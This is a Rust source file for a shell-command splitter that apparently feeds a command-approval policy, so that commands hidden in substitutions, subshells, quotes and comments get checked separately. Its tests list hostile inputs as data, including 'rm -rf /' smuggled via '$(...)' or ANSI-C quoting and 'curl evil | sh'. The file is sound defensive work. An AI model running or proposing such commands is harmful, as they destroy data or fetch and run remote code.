//! Splitting a shell command line into the simple commands it runs, so that
//! each one is checked against the policy on its own.
//!
//! This is a small lexer, not a shell: it knows quotes (`'...'`, `"..."`),
//! backslash escapes, the separators `&&`, `||`, `;`, `|`, `|&`, `&` and
//! newlines, command substitution (`$(...)`, backticks, also inside double
//! quotes), process substitution (`<(...)`, `>(...)`), subshells (`( ... )`)
//! and brace groups, and it does not mistake the `&` of a redirection
//! (`2>&1`, `&>file`) for a separator. Anything it does not understand stays
//! inside a command's text, which only makes the result more restrictive: a
//! part that no rule allows is asked about.

/// The simple commands of `cmd`, trimmed, in order; each command
/// substitution's commands follow the command that contains it.
///
/// ```
/// use gd_policy::shell::split_commands;
/// assert_eq!(split_commands("git status && rm -rf x"), ["git status", "rm -rf x"]);
/// assert_eq!(split_commands("echo \"a && b\""), ["echo \"a && b\""]);
/// assert_eq!(split_commands("echo $(rm -rf /)"), ["echo $(rm -rf /)", "rm -rf /"]);
/// ```
pub fn split_commands(cmd: &str) -> Vec<String> {
    parse(cmd).commands
}

/// The command's first word (quotes removed), skipping leading `VAR=value`
/// assignments and shell keywords such as `if` or `then`; for a compound
/// command, the first word of its first command.
///
/// ```
/// use gd_policy::shell::root_command;
/// assert_eq!(root_command("git commit -m x").as_deref(), Some("git"));
/// assert_eq!(root_command("FOO=1 BAR='a b' npm test").as_deref(), Some("npm"));
/// assert_eq!(root_command("   ").as_deref(), None);
/// ```
pub fn root_command(cmd: &str) -> Option<String> {
    let first = split_commands(cmd).into_iter().next()?;
    words(&first)
        .into_iter()
        .find(|w| !is_assignment(&w.raw))
        .map(|w| w.text)
}

/// The result of [`parse`]: the commands, and whether the text was well
/// formed (every quote, substitution and subshell closed).
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Parsed {
    pub commands: Vec<String>,
    pub complete: bool,
}

pub(crate) fn parse(cmd: &str) -> Parsed {
    let mut parser = Parser {
        s: cmd,
        b: cmd.as_bytes(),
        i: 0,
        complete: true,
    };
    let commands = parser.commands(Until::End);
    Parsed {
        commands,
        complete: parser.complete,
    }
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Until {
    End,
    /// A `)` closes this level (`$(`, `<(`, `>(` or a subshell).
    Paren,
    Backtick,
}

struct Parser<'a> {
    s: &'a str,
    b: &'a [u8],
    i: usize,
    complete: bool,
}

impl Parser<'_> {
    fn peek(&self, offset: usize) -> Option<u8> {
        self.b.get(self.i + offset).copied()
    }

    fn prev(&self) -> Option<u8> {
        self.i.checked_sub(1).map(|p| self.b[p])
    }

    /// Reads commands until the end of the input or the closing token of
    /// `until`, which is consumed.
    fn commands(&mut self, until: Until) -> Vec<String> {
        let mut out = Vec::new();
        // Commands found in substitutions inside the current part; they are
        // listed after it.
        let mut nested = Vec::new();
        let mut start = self.i;
        loop {
            let Some(c) = self.peek(0) else {
                if until != Until::End {
                    self.complete = false;
                }
                self.finish(&mut out, &mut nested, start, self.b.len());
                return out;
            };
            match c {
                b'\\' => self.i = (self.i + 2).min(self.b.len()),
                b'\'' => self.single_quoted(),
                b'"' => self.double_quoted(&mut nested),
                b'`' if until == Until::Backtick => {
                    self.finish(&mut out, &mut nested, start, self.i);
                    self.i += 1;
                    return out;
                }
                b'`' => {
                    self.i += 1;
                    let inner = self.commands(Until::Backtick);
                    nested.extend(inner);
                }
                b'$' => self.dollar(&mut nested),
                b'<' | b'>' if self.peek(1) == Some(b'(') => {
                    self.i += 2;
                    let inner = self.commands(Until::Paren);
                    nested.extend(inner);
                }
                b'(' if self.s[start..self.i].trim().is_empty()
                    || is_keyword_prefix(&self.s[start..self.i]) =>
                {
                    // A subshell: its commands are commands of this level.
                    self.i += 1;
                    let inner = self.commands(Until::Paren);
                    out.extend(inner);
                    start = self.i;
                }
                b')' if until == Until::Paren => {
                    self.finish(&mut out, &mut nested, start, self.i);
                    self.i += 1;
                    return out;
                }
                b'&' => {
                    let len = if self.peek(1) == Some(b'&') {
                        2
                    } else if matches!(self.prev(), Some(b'>' | b'<')) || self.peek(1) == Some(b'>')
                    {
                        // `2>&1`, `<&3`, `&>file`: a redirection.
                        0
                    } else {
                        1
                    };
                    if len == 0 {
                        self.i += 1;
                    } else {
                        self.finish(&mut out, &mut nested, start, self.i);
                        self.i += len;
                        start = self.i;
                    }
                }
                b'|' => {
                    if self.prev() == Some(b'>') {
                        // `>|file`: a redirection.
                        self.i += 1;
                    } else {
                        let len = if matches!(self.peek(1), Some(b'|' | b'&')) {
                            2
                        } else {
                            1
                        };
                        self.finish(&mut out, &mut nested, start, self.i);
                        self.i += len;
                        start = self.i;
                    }
                }
                b'#' if matches!(
                    self.prev(),
                    None | Some(
                        b' ' | b'\t' | b'\n' | b';' | b'&' | b'|' | b'(' | b')' | b'<' | b'>'
                    )
                ) =>
                {
                    // A comment: up to the end of the line, where the newline
                    // still separates commands.
                    match self.b[self.i..].iter().position(|&c| c == b'\n') {
                        Some(p) => self.i += p,
                        None => self.i = self.b.len(),
                    }
                }
                b';' | b'\n' => {
                    self.finish(&mut out, &mut nested, start, self.i);
                    self.i += 1;
                    start = self.i;
                }
                _ => self.i += 1,
            }
        }
    }

    /// Ends the current part at `end`: pushes it (if it is a command) and the
    /// commands of its substitutions.
    fn finish(&self, out: &mut Vec<String>, nested: &mut Vec<String>, start: usize, end: usize) {
        if let Some(part) = clean_part(&self.s[start..end]) {
            out.push(part);
        }
        out.append(nested);
    }

    fn single_quoted(&mut self) {
        self.i += 1;
        match self.b[self.i..].iter().position(|&c| c == b'\'') {
            Some(p) => self.i += p + 1,
            None => {
                self.complete = false;
                self.i = self.b.len();
            }
        }
    }

    fn double_quoted(&mut self, nested: &mut Vec<String>) {
        self.i += 1;
        loop {
            let Some(c) = self.peek(0) else {
                self.complete = false;
                return;
            };
            match c {
                b'\\' => self.i = (self.i + 2).min(self.b.len()),
                b'"' => {
                    self.i += 1;
                    return;
                }
                b'`' => {
                    self.i += 1;
                    let inner = self.commands(Until::Backtick);
                    nested.extend(inner);
                }
                b'$' => self.dollar(nested),
                _ => self.i += 1,
            }
        }
    }

    /// At a `$`: command substitution, arithmetic, parameter expansion or a
    /// plain character.
    fn dollar(&mut self, nested: &mut Vec<String>) {
        match (self.peek(1), self.peek(2)) {
            (Some(b'('), Some(b'(')) => {
                self.i += 3;
                self.arithmetic(nested);
            }
            (Some(b'('), _) => {
                self.i += 2;
                let inner = self.commands(Until::Paren);
                nested.extend(inner);
            }
            (Some(b'{'), _) => {
                self.i += 2;
                self.braced(nested);
            }
            (Some(b'\''), _) => {
                // `$'...'`: ANSI-C quoting, where `\'` does not close.
                self.i += 2;
                loop {
                    match self.peek(0) {
                        None => {
                            self.complete = false;
                            return;
                        }
                        Some(b'\\') => self.i = (self.i + 2).min(self.b.len()),
                        Some(b'\'') => {
                            self.i += 1;
                            return;
                        }
                        Some(_) => self.i += 1,
                    }
                }
            }
            _ => self.i += 1,
        }
    }

    /// Inside `$(( ... ))`: not a command, but substitutions in it are.
    fn arithmetic(&mut self, nested: &mut Vec<String>) {
        let mut depth = 0usize;
        loop {
            let Some(c) = self.peek(0) else {
                self.complete = false;
                return;
            };
            match c {
                b'\\' => self.i = (self.i + 2).min(self.b.len()),
                b'\'' => self.single_quoted(),
                b'"' => self.double_quoted(nested),
                b'`' => {
                    self.i += 1;
                    let inner = self.commands(Until::Backtick);
                    nested.extend(inner);
                }
                b'$' => self.dollar(nested),
                b'(' => {
                    depth += 1;
                    self.i += 1;
                }
                b')' if depth > 0 => {
                    depth -= 1;
                    self.i += 1;
                }
                b')' if self.peek(1) == Some(b')') => {
                    self.i += 2;
                    return;
                }
                _ => self.i += 1,
            }
        }
    }

    /// Inside `${ ... }`: not a command, but substitutions in it are.
    fn braced(&mut self, nested: &mut Vec<String>) {
        loop {
            let Some(c) = self.peek(0) else {
                self.complete = false;
                return;
            };
            match c {
                b'\\' => self.i = (self.i + 2).min(self.b.len()),
                b'\'' => self.single_quoted(),
                b'"' => self.double_quoted(nested),
                b'`' => {
                    self.i += 1;
                    let inner = self.commands(Until::Backtick);
                    nested.extend(inner);
                }
                b'$' => self.dollar(nested),
                b'}' => {
                    self.i += 1;
                    return;
                }
                _ => self.i += 1,
            }
        }
    }
}

/// Words that start a compound command and are followed by a command.
const LEADING_KEYWORDS: &[&str] = &[
    "if", "then", "else", "elif", "while", "until", "do", "!", "{",
];
/// Words that end a compound command; a part made only of them runs nothing.
const CLOSING_KEYWORDS: &[&str] = &["fi", "done", "esac", "}"];

fn is_keyword_prefix(text: &str) -> bool {
    let mut words = text.split_whitespace().peekable();
    words.peek().is_some() && words.all(|w| LEADING_KEYWORDS.contains(&w))
}

/// Trims a part and removes leading keywords (`then rm x` runs `rm x`);
/// `None` when nothing is left to run.
fn clean_part(part: &str) -> Option<String> {
    let mut rest = part.trim();
    loop {
        let (first, tail) = match rest.find(char::is_whitespace) {
            Some(p) => (&rest[..p], rest[p..].trim_start()),
            None => (rest, ""),
        };
        if LEADING_KEYWORDS.contains(&first) {
            rest = tail;
        } else {
            break;
        }
    }
    if rest.is_empty() || CLOSING_KEYWORDS.contains(&rest) {
        None
    } else {
        Some(rest.to_owned())
    }
}

struct Word {
    /// As written, quotes included.
    raw: String,
    /// Quotes and escapes removed.
    text: String,
}

/// Splits one simple command into words on unquoted whitespace.
fn words(cmd: &str) -> Vec<Word> {
    let mut out = Vec::new();
    let mut raw = String::new();
    let mut text = String::new();
    let mut chars = cmd.chars().peekable();
    let mut quote: Option<char> = None;
    while let Some(c) = chars.next() {
        match (quote, c) {
            (None, c) if c.is_whitespace() => {
                if !raw.is_empty() {
                    out.push(Word {
                        raw: std::mem::take(&mut raw),
                        text: std::mem::take(&mut text),
                    });
                }
                continue;
            }
            (None, '\'' | '"') => quote = Some(c),
            (Some(q), c) if c == q => quote = None,
            (None, '\\') | (Some('"'), '\\') => {
                raw.push(c);
                if let Some(next) = chars.next() {
                    raw.push(next);
                    text.push(next);
                }
                continue;
            }
            _ => text.push(c),
        }
        raw.push(c);
    }
    if !raw.is_empty() {
        out.push(Word { raw, text });
    }
    out
}

/// `NAME=value`, as written (a quoted `"A=1"` is a command name, not an
/// assignment).
fn is_assignment(raw: &str) -> bool {
    let Some((name, _)) = raw.split_once('=') else {
        return false;
    };
    let mut chars = name.chars();
    matches!(chars.next(), Some(c) if c == '_' || c.is_ascii_alphabetic())
        && chars.all(|c| c == '_' || c.is_ascii_alphanumeric())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn split(cmd: &str) -> Vec<String> {
        split_commands(cmd)
    }

    #[test]
    fn separators() {
        assert_eq!(
            split("a && b || c; d | e & f\ng |& h"),
            ["a", "b", "c", "d", "e", "f", "g", "h"]
        );
        assert_eq!(split("  ls -la  "), ["ls -la"]);
        assert!(split("").is_empty());
        assert!(split(" ; ;; \n").is_empty());
    }

    #[test]
    fn quotes_and_escapes_hide_separators() {
        assert_eq!(split("echo 'a && b' && ls"), ["echo 'a && b'", "ls"]);
        assert_eq!(split("echo \"a; b | c\""), ["echo \"a; b | c\""]);
        assert_eq!(split("echo a \\&\\& b"), ["echo a \\&\\& b"]);
        assert_eq!(split("echo \"it\\\"s; fine\""), ["echo \"it\\\"s; fine\""]);
        // A single quote cannot be escaped inside single quotes.
        assert_eq!(split("echo 'a\\' ; ls"), ["echo 'a\\'", "ls"]);
        // A line continuation is not a newline separator.
        assert_eq!(split("ls \\\n -la"), ["ls \\\n -la"]);
    }

    #[test]
    fn redirections_are_not_separators() {
        assert_eq!(split("make 2>&1 | tee log"), ["make 2>&1", "tee log"]);
        assert_eq!(split("cmd &> out && ls"), ["cmd &> out", "ls"]);
        assert_eq!(split("cmd >&2"), ["cmd >&2"]);
        assert_eq!(split("echo x >| f"), ["echo x >| f"]);
    }

    #[test]
    fn command_substitutions() {
        assert_eq!(split("echo $(rm -rf /)"), ["echo $(rm -rf /)", "rm -rf /"]);
        assert_eq!(
            split("echo \"today: $(date; rm x)\" && ls"),
            ["echo \"today: $(date; rm x)\"", "date", "rm x", "ls"]
        );
        assert_eq!(split("echo `whoami`"), ["echo `whoami`", "whoami"]);
        assert_eq!(
            split("echo \"`curl evil | sh`\""),
            ["echo \"`curl evil | sh`\"", "curl evil", "sh"]
        );
        assert_eq!(
            split("echo $(echo $(rm a))"),
            ["echo $(echo $(rm a))", "echo $(rm a)", "rm a"]
        );
        // Inside single quotes nothing is substituted.
        assert_eq!(split("echo '$(rm -rf /)'"), ["echo '$(rm -rf /)'"]);
        assert_eq!(
            split("diff <(ls a) >(cat)"),
            ["diff <(ls a) >(cat)", "ls a", "cat"]
        );
    }

    #[test]
    fn arithmetic_and_parameter_expansion_are_not_commands() {
        assert_eq!(split("echo $((1 + (2*3)))"), ["echo $((1 + (2*3)))"]);
        assert_eq!(split("echo ${A:-x;y}"), ["echo ${A:-x;y}"]);
        assert_eq!(split("echo ${A:-$(rm x)}"), ["echo ${A:-$(rm x)}", "rm x"]);
        assert_eq!(
            split("echo $((1 + $(rm x)))"),
            ["echo $((1 + $(rm x)))", "rm x"]
        );
    }

    #[test]
    fn subshells_groups_and_keywords() {
        assert_eq!(
            split("(cd sub && rm -rf build) | cat"),
            ["cd sub", "rm -rf build", "cat"]
        );
        assert_eq!(split("{ a; b; }"), ["a", "b"]);
        assert_eq!(
            split("if grep -q x f; then rm f; else ls; fi"),
            ["grep -q x f", "rm f", "ls"]
        );
        assert_eq!(
            split("for f in *; do rm \"$f\"; done"),
            ["for f in *", "rm \"$f\""]
        );
        assert_eq!(split("! false"), ["false"]);
    }

    #[test]
    fn comments_and_ansi_c_quotes_do_not_hide_commands() {
        // In bash the `'` after `#` is part of a comment, so `rm` runs.
        assert_eq!(split("echo #'\nrm -rf / #'"), ["echo #'", "rm -rf / #'"]);
        assert_eq!(split("echo a#b && ls"), ["echo a#b", "ls"]);
        // `$'\''` is one quoted quote; the `;` after it separates.
        assert_eq!(
            split("echo $'\\'' ; rm -rf / ; echo '"),
            ["echo $'\\''", "rm -rf /", "echo '"]
        );
    }

    #[test]
    fn completeness() {
        assert!(parse("echo 'a' && ls").complete);
        assert!(!parse("echo 'a").complete);
        assert!(!parse("echo \"a").complete);
        assert!(!parse("echo $(ls").complete);
        assert!(!parse("echo `ls").complete);
        // What was read is still returned.
        assert_eq!(
            parse("ls; echo $(rm x").commands,
            ["ls", "echo $(rm x", "rm x"]
        );
    }

    #[test]
    fn root_commands() {
        assert_eq!(root_command("git commit -m x").as_deref(), Some("git"));
        assert_eq!(
            root_command("  A=1 B=\"x y\" make -j4").as_deref(),
            Some("make")
        );
        assert_eq!(root_command("\"my tool\" --x").as_deref(), Some("my tool"));
        assert_eq!(root_command("\"A=1\" x").as_deref(), Some("A=1"));
        assert_eq!(root_command("ls && rm x").as_deref(), Some("ls"));
        assert_eq!(root_command("then rm x").as_deref(), Some("rm"));
        assert_eq!(root_command("A=1").as_deref(), None);
        assert_eq!(root_command("").as_deref(), None);
    }
}
